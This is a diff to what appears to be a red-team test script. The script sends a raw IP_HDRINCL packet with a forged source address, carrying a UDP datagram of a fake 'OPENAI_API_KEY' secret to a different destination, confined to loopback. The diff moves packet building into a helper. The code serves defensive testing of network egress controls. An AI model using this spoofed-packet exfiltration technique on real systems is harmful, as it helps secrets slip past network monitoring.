@@ -9,7 +9,6 @@ datagram is delivered to a new address's UDP listener.  Nothing but lo.
 from __future__ import annotations
 
 import socket
-import struct
 from typing import Any
 
 from redteam import rt
@@ -22,32 +21,17 @@ ROUND = 7
 EXPECT = ("L4",)
 
 
-def _checksum(b: bytes) -> int:
-    if len(b) % 2:
-        b += b"\0"
-    s = sum(struct.unpack(f"!{len(b) // 2}H", b))
-    s = (s >> 16) + (s & 0xFFFF)
-    s += s >> 16
-    return ~s & 0xFFFF
-
-
 def run(args: dict[str, Any]) -> None:
     dst, dport = rt.loopback(args["dest"]["ip"]), int(args["dest"]["port"])
     known_ip, known_port = rt.loopback(args["known"]["ip"]), int(args["known"]["port"])
     payload = b"OPENAI_API_KEY=sk-h7redteam-round7-hdrincl\n" * 12
-    udp = struct.pack("!HHHH", 40007, dport, 8 + len(payload), 0) + payload  # UDP checksum 0: none (IPv4)
-    hdr = struct.pack(
-        "!BBHHHBBH4s4s",
-        0x45, 0, 20 + len(udp), 0x4837, 0, 64, socket.IPPROTO_UDP, 0,
-        socket.inet_aton(known_ip), socket.inet_aton(dst),
-    )  # fmt: skip
-    hdr = hdr[:10] + struct.pack("!H", _checksum(hdr)) + hdr[12:]
+    pkt = rt.ipv4_udp(known_ip, dst, 40007, dport, payload, 0x4837)
     with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as s:
         t = rt.now()
-        n = s.sendto(hdr + udp, (known_ip, known_port))
+        n = s.sendto(pkt, (known_ip, known_port))
     rt.report(
         t,
-        n == len(hdr) + len(udp),
+        n == len(pkt),
         f"raw IP_HDRINCL sendto({known_ip}:{known_port}) carrying UDP to {dst}:{dport}: {n} B "
         f"({len(payload)} payload)",
     )
